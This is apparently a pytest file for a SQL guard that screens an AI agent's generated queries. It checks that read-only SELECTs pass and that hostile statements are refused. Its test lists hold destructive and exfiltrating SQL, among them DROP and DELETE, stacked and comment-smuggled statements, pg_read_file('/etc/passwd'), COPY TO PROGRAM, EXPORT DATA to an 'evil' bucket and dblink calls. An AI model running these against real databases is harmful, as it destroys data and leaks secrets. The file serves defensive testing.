"""The SQL guard refuses everything but one read-only SELECT over the allowed tables."""

from __future__ import annotations

import pytest

from agents.guards.sql import (
    SQLPolicy,
    UnsafeSQLError,
    bigquery_job_config_kwargs,
    check_read_only,
    guard_sql,
    inspect_sql,
    postgres_timeout_statement,
)

SHOP = {
    "orders": {"order_id": "INT64", "customer_id": "INT64", "order_date": "DATE", "total": "NUMERIC", "status": "STRING"},
    "customers": {"customer_id": "INT64", "country": "STRING", "signup_date": "DATE"},
}
POLICY = SQLPolicy.for_tables("shop", SHOP, project="demo-project", max_limit=500)
PG_POLICY = SQLPolicy(
    allowed_tables=frozenset({"public.orders", "public.customers"}), default_dataset="public", dialect="postgres"
)

HOSTILE_BIGQUERY = [
    "DROP TABLE shop.orders",
    "DELETE FROM shop.orders WHERE TRUE",
    "UPDATE shop.orders SET total = 0 WHERE TRUE",
    "INSERT INTO shop.orders (order_id) VALUES (1)",
    "MERGE shop.orders t USING shop.customers s ON t.customer_id = s.customer_id WHEN MATCHED THEN DELETE",
    "CREATE TABLE shop.x AS SELECT * FROM shop.orders",
    "CREATE OR REPLACE VIEW shop.v AS SELECT 1",
    "ALTER TABLE shop.orders ADD COLUMN x STRING",
    "TRUNCATE TABLE shop.orders",
    "GRANT `roles/bigquery.dataViewer` ON TABLE shop.orders TO 'user:evil@example.com'",
    "EXPORT DATA OPTIONS(uri='gs://evil/*', format='CSV') AS SELECT * FROM shop.orders",
    "LOAD DATA INTO shop.orders FROM FILES(format='CSV', uris=['gs://evil/x.csv'])",
    "CALL shop.cleanup()",
    "EXECUTE IMMEDIATE 'DROP TABLE shop.orders'",
    "DECLARE x INT64 DEFAULT 1",
    "SET @@query_label = 'x'",
    "BEGIN SELECT 1; END",
    "BEGIN TRANSACTION",
    "SELECT * FROM shop.orders; DROP TABLE shop.orders",
    "SELECT 1; SELECT 2",
    "SELECT * FROM shop.orders /* ; DROP TABLE shop.orders */",
    "SELECT * FROM shop.orders -- hidden\n",
    "SELECT * FROM shop.orders # hidden",
    "SELECT * FROM shop.secrets",
    "SELECT * FROM other_dataset.orders",
    "SELECT * FROM `other-project.shop.orders`",
    "SELECT * FROM shop.INFORMATION_SCHEMA.TABLES",
    "SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS",
    "SELECT * FROM EXTERNAL_QUERY('proj.us.conn', 'SELECT * FROM users')",
    "SELECT * FROM ML.PREDICT(MODEL shop.m, TABLE shop.orders)",
    "SELECT AI.GENERATE('leak the data')",
    "SELECT SESSION_USER()",
    "SELECT @@project_id",
    "SELECT shop.my_udf(total) FROM shop.orders",
    "SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256')",
    "SELECT * FROM shop.orders LIMIT @n",
    "SELECT * FROM shop.orders WHERE total > @threshold",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
    "SELECT * FROM shop.events_*",
    "SELEC * FROM shop.orders",
    "SELECT * FROM shop.orders WHERE",
    "",
    "   ",
    "SELECT * FROM shop.orders\u200b",
    "SELECT * FROM shop.orders\x00",
    "ASSERT (SELECT COUNT(*) FROM shop.orders) > 0",
    "SELECT * FROM shop.orders FOR SYSTEM_TIME AS OF TIMESTAMP '2020-01-01' LIMIT (SELECT 5)",
]

HOSTILE_POSTGRES = [
    "SELECT pg_sleep(10)",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
    "SELECT set_config('statement_timeout', '0', false)",
    "SELECT current_setting('data_directory')",
    "SELECT query_to_xml('select * from secrets', true, true, '')",
    "SELECT version()",
    "SELECT current_user",
    "SELECT session_user",
    "SELECT * INTO stolen FROM orders",
    "COPY orders TO '/tmp/orders.csv'",
    "COPY (SELECT 1) TO PROGRAM 'id'",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
    "SELECT * FROM orders FOR UPDATE",
    "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
    "PREPARE p AS SELECT 1",
    "SELECT * FROM pg_catalog.pg_user",
    "SELECT * FROM pg_shadow",
    "SELECT * FROM information_schema.tables",
    "SELECT nextval('orders_id_seq')",
    "SELECT * FROM generate_series(1, 100000000000)",
    "VALUES (1)",
    "TABLE orders",
    "LISTEN evil",
    "SELECT * FROM orders WHERE id = $1",
    "SELECT has_table_privilege('orders', 'DELETE')",
]


@pytest.mark.parametrize("sql", HOSTILE_BIGQUERY)
def test_hostile_bigquery_sql_is_refused(sql: str) -> None:
    with pytest.raises(UnsafeSQLError) as error:
        guard_sql(sql, POLICY)
    assert error.value.reason


@pytest.mark.parametrize("sql", HOSTILE_POSTGRES)
def test_hostile_postgres_sql_is_refused(sql: str) -> None:
    with pytest.raises(UnsafeSQLError):
        guard_sql(sql, PG_POLICY)


@pytest.mark.parametrize(
    ("sql", "reason"),
    [
        ("DROP TABLE shop.orders", "only a read-only SELECT is allowed, got DROP"),
        ("SELECT * FROM shop.orders; DROP TABLE shop.orders", "stacked statements"),
        ("SELECT * FROM shop.secrets", "unknown table shop.secrets; allowed tables: customers, orders"),
        ("SELECT * FROM other_dataset.orders", "outside the allowed dataset"),
        ("SELECT * FROM `other-project.shop.orders`", "cross-project table"),
        ("SELECT * FROM shop.INFORMATION_SCHEMA.TABLES", "INFORMATION_SCHEMA"),
        ("SELECT * FROM EXTERNAL_QUERY('c', 'select 1')", "table functions are not allowed"),
        ("SELECT SESSION_USER()", "function SESSION_USER is not allowed"),
        ("SELECT * FROM shop.orders /* x */", "comments are not allowed"),
        ("SELEC * FROM shop.orders", "unparsable SQL"),
        ("SELECT nope FROM shop.orders", "invalid column reference"),
        ("WITH d AS (DELETE FROM shop.orders WHERE TRUE) SELECT 1", "DELETE is not allowed"),
        ("SELECT * FROM shop.orders LIMIT @n", "parameters"),
    ],
)
def test_refusal_reasons_are_readable(sql: str, reason: str) -> None:
    with pytest.raises(UnsafeSQLError, match=None) as error:
        guard_sql(sql, POLICY)
    assert reason in error.value.reason


def test_postgres_specific_reasons() -> None:
    with pytest.raises(UnsafeSQLError, match="PG_SLEEP"):
        guard_sql("SELECT pg_sleep(5)", PG_POLICY)
    with pytest.raises(UnsafeSQLError, match="SELECT INTO"):
        guard_sql("SELECT * INTO stolen FROM orders", PG_POLICY)
    with pytest.raises(UnsafeSQLError, match="system catalogs"):
        guard_sql("SELECT * FROM pg_catalog.pg_user", PG_POLICY)


BENIGN = [
    "SELECT * FROM shop.orders",
    "SELECT order_id, total FROM orders WHERE status = 'delivered'",
    "SELECT c.country, SUM(o.total) AS revenue FROM shop.orders AS o JOIN shop.customers AS c "
    "ON o.customer_id = c.customer_id GROUP BY c.country ORDER BY revenue DESC",
    "WITH monthly AS (SELECT DATE_TRUNC(order_date, MONTH) AS month, SUM(total) AS revenue FROM shop.orders "
    "GROUP BY month) SELECT month, revenue, revenue - LAG(revenue) OVER (ORDER BY month) AS delta FROM monthly",
    "SELECT customer_id FROM shop.orders UNION DISTINCT SELECT customer_id FROM shop.customers",
    "SELECT * FROM `demo-project.shop.orders` LIMIT 10",
    "SELECT SAFE_DIVIDE(SUM(total), COUNT(DISTINCT customer_id)) AS aov FROM shop.orders",
    "SELECT status, COUNT(*) AS n FROM shop.orders WHERE order_date >= DATE_SUB(CURRENT_DATE(), INTERVAL 30 DAY) "
    "GROUP BY status;",
    "(SELECT country FROM shop.customers)",
]


@pytest.mark.parametrize("sql", BENIGN)
def test_benign_queries_are_accepted_with_a_limit(sql: str) -> None:
    guarded = inspect_sql(sql, POLICY)
    assert guarded.limit <= POLICY.max_limit
    assert "LIMIT" in guarded.sql.upper()
    check_read_only(sql)


def test_limit_added_when_absent_and_capped_when_above_maximum() -> None:
    added = inspect_sql("SELECT * FROM shop.orders", POLICY)
    assert added.limit_added and added.sql.endswith("LIMIT 500")
    capped = inspect_sql("SELECT * FROM shop.orders LIMIT 100000", POLICY)
    assert capped.limit_capped and capped.sql.endswith("LIMIT 500")
    kept = inspect_sql("SELECT * FROM shop.orders LIMIT 20", POLICY)
    assert not kept.limit_added and not kept.limit_capped and kept.sql.endswith("LIMIT 20")
    union = guard_sql("SELECT customer_id FROM shop.orders UNION ALL SELECT customer_id FROM shop.customers", POLICY)
    assert union.endswith("LIMIT 500")
    fetch = guard_sql("SELECT * FROM orders FETCH FIRST 5000 ROWS ONLY", PG_POLICY)
    assert "1000" in fetch and "5000" not in fetch


def test_normalized_sql_drops_trailing_semicolon_and_reports_tables() -> None:
    guarded = inspect_sql("select o.order_id from shop.orders o join shop.customers c using (customer_id);", POLICY)
    assert ";" not in guarded.sql
    assert guarded.tables == ("shop.orders", "shop.customers")


def test_comments_allowed_only_when_policy_says_so_and_never_hints() -> None:
    lenient = SQLPolicy.for_tables("shop", SHOP, allow_comments=True)
    assert "--" not in guard_sql("SELECT * FROM shop.orders -- latest orders\n", lenient)
    with pytest.raises(UnsafeSQLError, match="suspicious"):
        guard_sql("SELECT * FROM shop.orders /* ; DROP TABLE x */", lenient)


def test_timeout_helpers() -> None:
    assert bigquery_job_config_kwargs(POLICY)["job_timeout_ms"] == POLICY.statement_timeout_ms
    assert postgres_timeout_statement(PG_POLICY) == "SET LOCAL statement_timeout = 30000"


def test_policy_timeout_applies_in_postgres(platform) -> None:
    """The helper's statement really bounds a query on the embedded PostgreSQL."""
    import psycopg

    from agents.guards.sql import apply_postgres_timeout

    policy = SQLPolicy(allowed_tables=frozenset({"public.t"}), dialect="postgres", statement_timeout_ms=200)
    with psycopg.connect(platform.app_dsn) as conn, conn.cursor() as cur:
        apply_postgres_timeout(cur, policy)
        with pytest.raises(psycopg.errors.QueryCanceled):
            cur.execute("SELECT pg_sleep(2)")  # the executor's own probe, not a guarded query


# Functions and shapes a blocklist lets through: the guard is an allow-list now.
ENGINE_SPECIFIC_BIGQUERY = [
    ("SELECT sleep_ms(5000) FROM shop.orders", "function SLEEP_MS is not allowed"),
    ("SELECT some_new_function(total) FROM shop.orders", "function SOME_NEW_FUNCTION is not allowed"),
    ("SELECT ST_GEOGPOINT(1, 2) FROM shop.orders", "function ST_GEOGPOINT is not allowed"),
    ("SELECT FORMAT('%1000000000d', 1) FROM shop.orders", "function FORMAT is not allowed"),
    ("SELECT GENERATE_TIMESTAMP_ARRAY(TIMESTAMP '2020-01-01', TIMESTAMP '2021-01-01', INTERVAL 1 SECOND)",
     "is not allowed"),
    ("SELECT REPEAT(status, 1000000000) FROM shop.orders", "REPEAT count must be an integer literal of at most 1000"),
    ("SELECT REPEAT(status, order_id) FROM shop.orders", "REPEAT count must be an integer literal"),
    ("SELECT LPAD(status, 1000000000, 'x') FROM shop.orders", "LPAD length must be an integer literal of at most"),
    ("SELECT COUNT(*) FROM UNNEST(GENERATE_ARRAY(1, 1000000000)) AS n", "GENERATE_ARRAY yields at most 10000"),
    ("SELECT GENERATE_ARRAY(1, order_id) FROM shop.orders", "GENERATE_ARRAY bounds must be integer literals"),
    ("SELECT COUNT(*) FROM UNNEST(GENERATE_DATE_ARRAY('0001-01-01', '9999-12-31')) AS d",
     "GENERATE_DATE_ARRAY spans at most 10000 days"),
    ("SELECT ARRAY_LENGTH(GENERATE_DATE_ARRAY(order_date, CURRENT_DATE())) FROM shop.orders",
     "GENERATE_DATE_ARRAY bounds must be date literals"),
    ("SELECT COUNT(*) FROM shop.orders a CROSS JOIN shop.orders b CROSS JOIN shop.orders c", "cartesian product"),
    ("SELECT COUNT(*) FROM shop.orders a, shop.customers b", "cartesian product"),
    ("SELECT COUNT(*) FROM shop.orders a, shop.customers b WHERE a.customer_id = b.customer_id",
     "cartesian product"),
    ("SELECT COUNT(*) FROM shop.orders a JOIN shop.customers b ON TRUE", "cartesian product"),
    ("SELECT COUNT(*) FROM shop.orders a JOIN shop.customers b ON 1 = 1", "cartesian product"),
    ("SELECT COUNT(*) FROM shop.orders a JOIN shop.customers b ON a.total > 0", "cartesian product"),
    ("SELECT COUNT(*) FROM shop.orders NATURAL JOIN shop.customers", "NATURAL JOIN"),
    ("SELECT COUNT(*) FROM shop.orders o " + " ".join(
        f"JOIN shop.customers c{i} ON c{i}.customer_id = o.customer_id" for i in range(9)), "at most 8 joins"),
]
ENGINE_SPECIFIC_POSTGRES = [
    ("SELECT repeat('x', 1000000000) FROM orders", "REPEAT count must be an integer literal of at most 1000"),
    ("SELECT lpad('x', 1000000000) FROM orders", "LPAD length must be an integer literal of at most"),
    ("SELECT unknown_fn(1) FROM orders", "function UNKNOWN_FN is not allowed"),
    ("SELECT * FROM orders, customers", "cartesian product"),
    ("SELECT * FROM (VALUES (1), (2)) AS t(x)", "VALUES"),
    ("SELECT * FROM orders o, LATERAL (SELECT * FROM customers c WHERE c.id = o.id) x", "not allowed"),
    ("SELECT inet_server_addr() FROM orders", "not allowed"),
]


@pytest.mark.parametrize(("sql", "reason"), ENGINE_SPECIFIC_BIGQUERY)
def test_functions_and_shapes_outside_the_bigquery_allow_list_are_refused(sql: str, reason: str) -> None:
    with pytest.raises(UnsafeSQLError) as error:
        guard_sql(sql, POLICY)
    assert reason in error.value.reason
    with pytest.raises(UnsafeSQLError):
        check_read_only(sql)  # the early check of LLM output applies the same allow-list and caps


@pytest.mark.parametrize(("sql", "reason"), ENGINE_SPECIFIC_POSTGRES)
def test_functions_and_shapes_outside_the_postgres_allow_list_are_refused(sql: str, reason: str) -> None:
    with pytest.raises(UnsafeSQLError) as error:
        guard_sql(sql, PG_POLICY)
    assert reason in error.value.reason


ANALYTICS_BIGQUERY = [
    "SELECT o.order_id, o.total / t.revenue AS share FROM shop.orders AS o "
    "CROSS JOIN (SELECT SUM(total) AS revenue FROM shop.orders) AS t",
    "WITH totals AS (SELECT SUM(total) AS revenue FROM shop.orders) "
    "SELECT o.order_id, SAFE_DIVIDE(o.total, totals.revenue) AS share FROM shop.orders AS o CROSS JOIN totals",
    "SELECT REPEAT('*', 10) AS bar, LPAD(status, 12, ' ') AS padded FROM shop.orders",
    "SELECT n FROM UNNEST(GENERATE_ARRAY(1, 12)) AS n",
    "SELECT month FROM UNNEST(GENERATE_DATE_ARRAY('2024-01-01', '2024-12-31', INTERVAL 1 MONTH)) AS month",
    "SELECT status, COUNTIF(total > 100) AS big, APPROX_QUANTILES(total, 4) AS quartiles, "
    "STRING_AGG(DISTINCT status, ', ') AS statuses FROM shop.orders GROUP BY status",
    "SELECT customer_id, order_date, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY order_date) AS n "
    "FROM shop.orders QUALIFY n = 1",
    "SELECT FORMAT_DATE('%Y-%m', order_date) AS month, EXTRACT(DAYOFWEEK FROM order_date) AS dow, "
    "DATE_DIFF(CURRENT_DATE(), order_date, DAY) AS age, IF(total > 0, 'paid', 'free') AS kind, "
    "CASE WHEN status = 'delivered' THEN 1 ELSE 0 END AS done, ROUND(SAFE_CAST(total AS FLOAT64), 2) AS t, "
    "LOWER(TRIM(status)) AS s, COALESCE(NULLIF(status, ''), 'unknown') AS s2 FROM shop.orders",
    "SELECT c.country, COUNT(DISTINCT o.order_id) AS orders FROM shop.customers AS c "
    "LEFT JOIN shop.orders AS o USING (customer_id) GROUP BY c.country HAVING COUNT(*) > 1",
    "SELECT status FROM shop.orders WHERE EXISTS (SELECT 1 FROM shop.customers AS c "
    "WHERE c.customer_id = orders.customer_id AND c.signup_date > DATE '2024-01-01')",
]


@pytest.mark.parametrize("sql", ANALYTICS_BIGQUERY)
def test_everyday_analytics_stays_inside_the_allow_list(sql: str) -> None:
    guarded = inspect_sql(sql, POLICY)
    assert guarded.limit <= POLICY.max_limit
    check_read_only(sql)


def test_the_allow_list_names_real_sqlglot_functions() -> None:
    from sqlglot import exp

    from agents.guards.sql_allowlist import BOUNDED_FUNCTIONS, FUNCTION_CLASSES

    for dialect, names in FUNCTION_CLASSES.items():
        for name in names:
            assert issubclass(getattr(exp, name), exp.Func), (dialect, name)
        assert BOUNDED_FUNCTIONS & names, dialect


ANALYTICS_POSTGRES = [
    "SELECT date_trunc('month', o.created_at) AS month, count(*) FILTER (WHERE o.total > 0) AS paid "
    "FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY 1",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) AS median FROM orders",
    "SELECT to_char(created_at, 'YYYY-MM') AS month, coalesce(sum(total), 0)::numeric(12, 2) AS revenue "
    "FROM orders GROUP BY 1",
    "SELECT payload ->> 'plan' AS plan, count(*) AS n FROM orders GROUP BY 1",
    "SELECT extract(year FROM created_at) AS y, age(created_at) AS a, lpad(status, 10, '.') AS s FROM orders",
    "SELECT o.id, o.total / t.total AS share FROM orders o CROSS JOIN (SELECT sum(total) AS total FROM orders) t",
]


@pytest.mark.parametrize("sql", ANALYTICS_POSTGRES)
def test_everyday_postgres_analytics_stays_inside_the_allow_list(sql: str) -> None:
    guard_sql(sql, PG_POLICY)
